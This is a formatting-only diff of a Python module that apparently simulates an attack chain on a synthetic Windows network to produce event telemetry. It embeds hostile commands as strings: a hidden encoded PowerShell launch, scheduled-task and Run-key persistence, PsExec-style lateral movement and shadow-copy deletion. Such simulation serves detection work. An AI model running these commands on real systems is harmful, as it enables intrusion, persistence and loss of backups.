@@ -17,7 +17,9 @@ ATTACKER = "45.155.205.233"
 def _prompt(host: Host) -> tuple[Process, Event]:
     """A hidden command line: where the steps on a Windows host start."""
     encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
-    return host.spawn(host.running["shell"], POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}")
+    return host.spawn(
+        host.running["shell"], POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}"
+    )
 
 
 def recon(network: Network, rng: random.Random) -> Steps:
@@ -30,7 +32,10 @@ def recon(network: Network, rng: random.Random) -> Steps:
     ):  # fmt: skip
         yield rng.uniform(0.5, 3), host.run(prompt, SYSTEM32 + command.split()[0], command)
     for target in rng.sample(network.hosts, 10):
-        yield rng.uniform(0.02, 0.2), host.connect(prompt, target.ip, rng.choice((22, 135, 445, 3389)), target.name)
+        yield (
+            rng.uniform(0.02, 0.2),
+            host.connect(prompt, target.ip, rng.choice((22, 135, 445, 3389)), target.name),
+        )
 
 
 def credential_dumping(network: Network, rng: random.Random) -> Steps:
@@ -59,7 +64,9 @@ def lateral_movement(network: Network, rng: random.Random) -> Steps:
     yield rng.uniform(2, 5), event
     yield 0.2, source.connect(tool, target.ip, 445, target.name)
     yield 0.3, target.login("CORP\\svc_files", source.ip, "success")
-    service, event = target.spawn(target.running["services"], "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe")
+    service, event = target.spawn(
+        target.running["services"], "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe"
+    )
     yield 0.5, target.write(target.running["services"], "C:\\Windows\\PSEXESVC.exe")
     yield 0.2, event
     yield 0.4, target.run(service, f"{SYSTEM32}cmd.exe", "cmd.exe")
@@ -73,7 +80,10 @@ def persistence(network: Network, rng: random.Random) -> Steps:
     yield rng.uniform(1, 3), host.write(prompt, program)
     for command in (
         f"schtasks.exe /create /sc minute /mo 5 /tn OneDriveUpdate /tr {program} /f",
-        f"reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d {program} /f",
+        (
+            "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d"
+            f" {program} /f"
+        ),
     ):
         yield rng.uniform(1, 4), host.run(prompt, SYSTEM32 + command.split()[0], command)
     server = rng.choice(network.linux)
@@ -96,7 +106,9 @@ def beacon(network: Network, rng: random.Random) -> Steps:
 
 def ransomware(network: Network, rng: random.Random) -> Steps:
     host = network.servers[1]
-    locker, event = host.spawn(host.running["shell"], "C:\\Users\\Public\\lock.exe", "C:\\Users\\Public\\lock.exe -all")
+    locker, event = host.spawn(
+        host.running["shell"], "C:\\Users\\Public\\lock.exe", "C:\\Users\\Public\\lock.exe -all"
+    )
     yield 0.0, event
     command = "vssadmin.exe delete shadows /all /quiet"
     yield 1.0, host.run(locker, f"{SYSTEM32}vssadmin.exe", command, "NT AUTHORITY\\SYSTEM")
